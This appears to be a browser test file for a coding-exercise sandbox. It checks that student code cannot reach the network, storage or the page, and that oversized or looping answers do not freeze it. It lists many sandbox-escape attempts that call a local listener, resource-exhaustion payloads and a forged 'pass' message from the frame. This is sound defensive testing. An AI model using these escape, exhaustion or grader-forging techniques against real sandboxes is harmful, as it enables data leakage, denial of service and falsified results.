// The exercise sandbox on a plain static host (the test server sends no CSP or other security
// headers): student code must reach no network, no storage, no DOM and no page messaging — held by
// the sandbox frame's opaque origin and its own <meta> Content-Security-Policy, which the blob:
// worker running the code inherits (web/widgets/sandbox_frame.js). A listener on another port of
// 127.0.0.1 (another origin) records every request; after the whole catalog it must have received
// nothing from the sandbox, while the same code in a worker without the sandbox does reach it (the
// control shows the attempts are real). Hostile answers must not block the page's main thread.
import http from 'node:http';
import { test, assert } from './harness.mjs';
import { CORRECT } from './dropout_solutions.mjs';
import { mainThreadDuring } from './main_thread.mjs';

function sink() {
  const hits = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url);
    if (req.headers.upgrade) { req.socket.destroy(); return; }
    const js = req.url.includes('.js');
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': js ? 'text/javascript' : req.url.startsWith('/es') ? 'text/event-stream' : 'text/plain' }).end(js ? 'fetch(location.origin + "/ran-remote-code")' : 'x');
  });
  let connections = 0;
  server.on('connection', () => { connections++; });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ hits, connections: () => connections, url: `http://127.0.0.1:${server.address().port}`, close: () => new Promise((r) => server.close(r)) })));
}

// Each attempt is student code put before a correct solution; `S` is the listener's origin.
const ESCAPES = (S) => ({
  fetch: `fetch('${S}/fetch').catch(() => {});`,
  'fetch no-cors keepalive': `fetch('${S}/fetch-keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => {});`,
  'XMLHttpRequest (sync and async)': `try { const r = new XMLHttpRequest(); r.open('GET', '${S}/xhr-sync', false); r.send(); } catch {} try { const r = new XMLHttpRequest(); r.open('GET', '${S}/xhr'); r.send(); } catch {}`,
  WebSocket: `try { new WebSocket('${S.replace('http', 'ws')}/ws'); } catch {}`,
  EventSource: `try { new EventSource('${S}/es'); } catch {}`,
  'import()': `import('${S}/import.js').catch(() => {});`,
  "import() after const s = '//'": `const s = '//'; import('${S}/import-slashes.js?' + s).catch(() => {});`,
  "import() between '/*' and '*/'": `const a = '/*'; import('${S}/import-comment.js').catch(() => {}); const b = '*/';`,
  'import() of a data: module that fetches': `import('data:text/javascript,fetch("${S}/data-module")').catch(() => {});`,
  'import() of a blob: module that fetches': `import(URL.createObjectURL(new Blob(['fetch("${S}/blob-module")'], { type: 'text/javascript' }))).catch(() => {});`,
  'import() through an indirect reference': `const imp = (u) => import(u); imp('${S}/import-indirect.js').catch(() => {});`,
  importScripts: `try { importScripts('${S}/importScripts.js'); } catch {}`,
  'importScripts of a blob that fetches': `try { importScripts(URL.createObjectURL(new Blob(['fetch("${S}/blob-importScripts")']))); } catch {}`,
  FontFace: `try { const f = new FontFace('f', 'url(${S}/font.woff2)'); self.fonts?.add(f); f.load().catch(() => {}); } catch {}`,
  'FontFace with local and remote sources': `try { new FontFace('g', 'local(Nope), url(${S}/font2.woff2) format("woff2")').load().catch(() => {}); } catch {}`,
  'createImageBitmap of a fetched image': `fetch('${S}/image.png').then((r) => r.blob()).then(createImageBitmap).catch(() => {});`,
  'OffscreenCanvas font by URL': `try { const c = new OffscreenCanvas(8, 8).getContext('2d'); c.font = '10px url(${S}/canvas-font)'; c.fillText('x', 0, 0); } catch {}`,
  'navigator.sendBeacon': `try { navigator.sendBeacon?.('${S}/beacon', 'x'); } catch {}`,
  'a nested Worker from the listener': `try { new Worker('${S}/worker.js'); } catch {}`,
  'a nested blob: Worker that fetches': `try { new Worker(URL.createObjectURL(new Blob(['fetch("${S}/nested-blob-worker"); importScripts("${S}/nested-importScripts.js")']))); } catch {}`,
  'a nested data: Worker': `try { new Worker('data:text/javascript,fetch("${S}/nested-data-worker")'); } catch {}`,
  SharedWorker: `try { new SharedWorker('${S}/shared.js'); } catch {}`,
  WebTransport: `try { new WebTransport('${S.replace('http', 'https')}/wt').ready.catch(() => {}); } catch {}`,
  'a Request through the Cache API': `try { caches.open('x').then((c) => c.add('${S}/cache')).catch(() => {}); } catch {}`,
  'eval and Function to build a fetch': `try { eval("fetch('${S}/eval')"); } catch {} try { new Function("fetch('${S}/function')")(); } catch {}`,
  'setTimeout with a string': `try { setTimeout("fetch('${S}/timeout-string')", 0); } catch {}`,
  'location assignment': `try { location.href = '${S}/navigate'; } catch {}`,
  'a request from a later task': `setTimeout(() => fetch('${S}/later').catch(() => {}), 50);`,
});

// Attempts whose outcome the student's code reports back through the one channel it has: the
// message of an error thrown by forward, which the checker shows (cut to 400 characters).
const PROBE = `
const report = {};
const tryIt = (name, f) => { try { const v = f(); report[name] = v === undefined ? 'undefined' : String(v).slice(0, 40); } catch (e) { report[name] = 'threw ' + e.name; } };
tryIt('document', () => typeof document);
tryIt('window', () => typeof window);
tryIt('parent', () => typeof parent);
tryIt('localStorage', () => typeof localStorage);
tryIt('postMessage', () => typeof self.postMessage);
tryIt('protoPostMessage', () => typeof Object.getPrototypeOf(self).postMessage);
tryIt('dedicatedPostMessage', () => typeof DedicatedWorkerGlobalScope.prototype.postMessage);
tryIt('origin', () => self.origin);
tryIt('indexedDB', () => { indexedDB.open('x').onsuccess = () => {}; return 'opened'; });
tryIt('eval', () => eval('1 + 1'));
tryIt('Function', () => new Function('return 2')());
let idb = 'pending';
try { const r = indexedDB.open('x'); r.onsuccess = () => { idb = 'success'; }; r.onerror = () => { idb = 'error'; }; } catch (e) { idb = 'threw ' + e.name; }
let cache = 'pending';
try { caches.open('x').then(() => { cache = 'opened'; }, (e) => { cache = 'rejected ' + e.name; }); } catch (e) { cache = 'threw ' + e.name; }
const bc = (() => { try { const c = new BroadcastChannel('reglab'); c.postMessage('from the sandbox'); return 'posted'; } catch (e) { return 'threw ' + e.name; } })();
function forward() { throw new Error(JSON.stringify({ ...report, idb, cache, bc })); }
function backward(g) { return g; }`;

test('sandbox: a catalog of escape attempts from student code reaches no network, storage, DOM or page messaging (plain static host, no headers)', async ({ page, errors, base }) => {
  const trap = await sink();
  try {
    await page.goto(`${base}/exercises.html`);
    await page.waitForFunction(() => document.querySelector('reglab-exercise[n="6.2"]')?.dataset.ready === 'true');
    // Anything that reaches the page: a BroadcastChannel and window messages from anyone but the frame.
    await page.evaluate(() => {
      window.seen = [];
      new BroadcastChannel('reglab').onmessage = (e) => window.seen.push(`broadcast: ${e.data}`);
      addEventListener('error', (e) => window.seen.push(`error event: ${e.message}`));
      addEventListener('unhandledrejection', (e) => window.seen.push(`unhandled rejection: ${e.reason}`));
      addEventListener('message', (e) => { if (!document.querySelector('reglab-exercise[n="6.2"]').shadowRoot.querySelector('iframe') || e.source !== document.querySelector('reglab-exercise[n="6.2"]').shadowRoot.querySelector('iframe').contentWindow) window.seen.push('window message from elsewhere'); });
    });
    const catalog = ESCAPES(trap.url);
    const check = (code) => page.evaluate((code) => document.querySelector('reglab-exercise[n="6.2"]').check(code), code);
    for (const [name, attempt] of Object.entries(catalog)) {
      const r = await check(`${attempt}\n${CORRECT.loops}`);
      // The code is not refused for what it says (no filtering): it runs, and still passes.
      assert(r.pass, `${name}: the attempt runs and the solution beside it still passes: ${JSON.stringify(r.checks.filter((c) => !c.ok))}`);
    }
    // Everything in one program too, kept alive for a second.
    await check(`${Object.values(catalog).join('\n')}\n${CORRECT.loops}\nconst t0 = Date.now(); while (Date.now() - t0 < 1000) {}`);
    const probe = await check(PROBE);
    const report = JSON.parse(probe.checks.find((c) => !c.ok).message.match(/Error: (\{.*\})/)[1]);
    console.log(`      what student code sees: ${JSON.stringify(report)}`);
    await page.waitForTimeout(1500);
    assert(trap.hits.length === 0 && trap.connections() === 0, `requests from the sandbox reached the listener: ${trap.hits.join(', ')} (${trap.connections()} connections)`);
    // What the browser reported meanwhile (DevTools sees every worker, the page's window heard none
    // of it — window.seen below): requests refused by the frame's policy, and a nested worker's own
    // uncaught errors about them.
    const blocked = errors.splice(0).filter((e) => !/^request failed: .* csp$/.test(e) && !/Content Security Policy|ERR_CONNECTION|WebTransport|^page: Failed to fetch$|^page: Failed to execute 'importScripts'.*failed to load\.$/.test(e));
    assert(blocked.length === 0, `unexpected errors: ${blocked.join('; ')}`);
    assert(report.document === 'undefined' && report.window === 'undefined' && report.parent === 'undefined' && report.localStorage === 'undefined', `no DOM, no page: ${JSON.stringify(report)}`);
    assert(report.postMessage === 'undefined' && report.protoPostMessage === 'undefined' && report.dedicatedPostMessage === 'undefined', `no postMessage: ${JSON.stringify(report)}`);
    assert(report.origin === 'null', `an opaque origin: ${report.origin}`);
    assert(/threw/.test(report.eval) && /threw/.test(report.Function), `no code from strings (the CSP has no 'unsafe-eval'): ${report.eval}, ${report.Function}`);
    assert(report.idb !== 'success' && report.cache !== 'opened', `no storage: indexedDB ${report.idb}, caches ${report.cache}`);
    assert((await page.evaluate(() => window.seen)).length === 0, `the page heard something: ${await page.evaluate(() => window.seen.join(', '))}`);
    // The control: the same attempts in a worker the page starts itself (no sandbox) do reach the
    // listener, so an empty log above means the sandbox stopped them, not that they never fired.
    await page.evaluate((src) => new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob([src]))); setTimeout(() => { w.terminate(); resolve(); }, 1500); }), Object.values(catalog).join('\n'));
    const reached = new Set(trap.hits.map((h) => h.split('?')[0]));
    console.log(`      control (no sandbox) reached the listener with ${reached.size} kinds of request: ${[...reached].sort().join(' ')}`);
    for (const path of ['/fetch', '/xhr', '/es', '/import.js', '/import-slashes.js', '/import-comment.js', '/data-module', '/importScripts.js', '/font.woff2', '/nested-blob-worker', '/later']) {
      assert(reached.has(path), `control: ${path} should reach the listener without the sandbox (got ${[...reached].join(' ')})`);
    }
    errors.splice(0); // the control's own failures (its nested importScripts, the remote module's 404)
  } finally {
    await trap.close();
  }
}, { timeout: 300_000 });

const HOSTILE = {
  'a 16M-character string': 'function forward() { return "x".repeat(16e6); }',
  '300,000 result objects': 'function forward() { return Array.from({ length: 300000 }, (_, i) => ({ id: "r" + i, title: "t".repeat(50), ok: true, message: "" })); }',
  'an array nested 100,000 deep': 'function forward() { let a = [1]; for (let i = 0; i < 1e5; i++) a = [a]; return a; }',
  'a typed array of 2²⁰ numbers': 'function forward() { return new Float64Array(1 << 20); }',
  'a Proxy posing as an array': 'function forward(x) { return new Proxy(x, { get: (t, k) => (k === "length" ? 1e9 : 0) }); }',
  'an error with a 16M-character message': 'function forward() { throw new Error("x".repeat(16e6)); }',
  'an error whose message getter loops': 'function forward() { const e = new Error(); Object.defineProperty(e, "message", { get() { for (;;) {} } }); throw e; }',
  'an uncaught 16M-character error at load': 'setTimeout(() => { throw new Error("x".repeat(16e6)); }, 0);\nfunction forward(x) { return x; }',
  'postMessage of 16M characters and 300,000 results': 'try { self.postMessage("x".repeat(16e6)); } catch {} try { Object.getPrototypeOf(self).postMessage.call(self, Array(300000).fill({})); } catch {}\nfunction forward(x) { return x; }',
  'Error.prepareStackTrace returning 16M characters': 'Error.prepareStackTrace = () => "blob:x:1:1 " + "y".repeat(16e6);\nfunction forward() { null.x; }',
};

test('sandbox: hostile answers — 16M-character strings, 300,000 results, deep nesting — never block the main thread 50 ms and end in a verdict', async ({ page, errors, base, context }) => {
  await page.goto(`${base}/exercises.html`);
  await page.waitForFunction(() => document.querySelector('reglab-exercise[n="6.2"]')?.dataset.ready === 'true');
  const check = (code) => page.evaluate((code) => document.querySelector('reglab-exercise[n="6.2"]').check(code), code);
  await check(CORRECT.loops); // warm up (first frame load, code caches)
  const lines = [];
  for (const [name, code] of Object.entries(HOSTILE)) {
    const t = Date.now();
    const m = await mainThreadDuring(page, context, () => check(`${code}\nfunction backward(g) { return g; }`));
    const msg = m.out.checks.find((c) => !c.ok)?.message ?? '';
    lines.push(`${name}: verdict in ${Date.now() - t} ms; longest main-thread task ${m.cpuMs} ms CPU (${m.wallMs} ms wall, long tasks ${JSON.stringify(m.longTasks)}) — “${msg.slice(0, 80)}”`);
    assert(!m.out.pass && msg.length <= 600, `${name}: a failing verdict with a short message: ${JSON.stringify(m.out).slice(0, 300)}`);
    assert(m.cpuMs < 50, `${name}: the main thread was blocked for ${m.cpuMs} ms of CPU`);
    const verdict = await page.evaluate(() => document.querySelector('reglab-exercise[n="6.2"]').shadowRoot.querySelector('.verdict').textContent.length);
    assert(verdict < 2000, `${name}: the verdict on the page is short (${verdict} characters)`);
  }
  // A subverted frame (as if the sandbox's own document ran hostile code, which would take a browser
  // bug): what it posts to the page is never read — the page does not listen; answers go from the
  // frame to the checker's worker through a MessagePort — so the check carries on.
  // (A longer time limit here, so the loaded test machine's slow post still arrives inside it.)
  await page.evaluate(() => { document.querySelector('reglab-exercise[n="6.2"]').timeLimit = 30_000; });
  const usedFrames = new Set();
  const slowStart = `let first = true;\n${CORRECT.loops.replace('function forward(x, p, training) {', 'function forward(x, p, training) {\n  if (first) { first = false; const t0 = Date.now(); while (Date.now() - t0 < 1500) {} }')}`;
  for (const [name, make] of Object.entries({
    'a 16M-character string': () => ({ type: 'out', id: 1, k: 0, error: { name: 'E', message: 'x'.repeat(16e6), line: 0 } }),
    '300,000 results': () => ({ type: 'out', id: 1, k: 0, y: Array.from({ length: 300000 }, () => ({ ok: true })) }),
    'a forged pass': () => ({ type: 'result', results: [{ id: 'rate', title: 'x', ok: true, message: '' }] }),
  })) {
    const pending = page.evaluate((code) => document.querySelector('reglab-exercise[n="6.2"]').check(code), slowStart);
    const frame = await (async () => { for (let i = 0; i < 300; i++) { const f = page.frames().find((f) => f.url().endsWith('widgets/sandbox.html') && !f.isDetached() && !usedFrames.has(f)); if (f) { usedFrames.add(f); return f; } await page.waitForTimeout(20); } return null; })();
    assert(frame, 'the sandbox frame is there');
    const m = await mainThreadDuring(page, context, async () => { await frame.evaluate(`parent.postMessage((${make.toString()})(), '*')`).catch((e) => lines.push(`(could not post from the frame: ${e.message.slice(0, 120)})`)); return pending; });
    lines.push(`the frame posts ${name} to the page: longest main-thread task ${m.cpuMs} ms CPU (${m.wallMs} ms wall, long tasks ${JSON.stringify(m.longTasks)}); the check ${m.out.pass ? 'carried on and passed' : `failed: ${JSON.stringify(m.out.checks.filter((c) => !c.ok))}`}`);
    assert(m.out.pass, `${name}: the page ignores the frame's own messages: ${JSON.stringify(m.out).slice(0, 300)}`);
    assert(m.cpuMs < 50, `the frame posts ${name}: the main thread was blocked for ${m.cpuMs} ms of CPU`);
  }
  await page.evaluate(() => { document.querySelector('reglab-exercise[n="6.2"]').timeLimit = 3000; });
  console.log(`      ${lines.join('\n      ')}`);
  // A correct solution: the checker's own statistics stay under 50 ms per task as well.
  const ok = await mainThreadDuring(page, context, () => check(CORRECT.loops));
  console.log(`      a correct solution: longest main-thread task ${ok.cpuMs} ms CPU (${ok.wallMs} ms wall, long tasks ${JSON.stringify(ok.longTasks)})`);
  assert(ok.out.pass && ok.cpuMs < 50, `a correct check blocked the main thread for ${ok.cpuMs} ms of CPU`);
  assert(errors.length === 0, `console errors: ${errors.join('; ')}`);
}, { timeout: 300_000 });
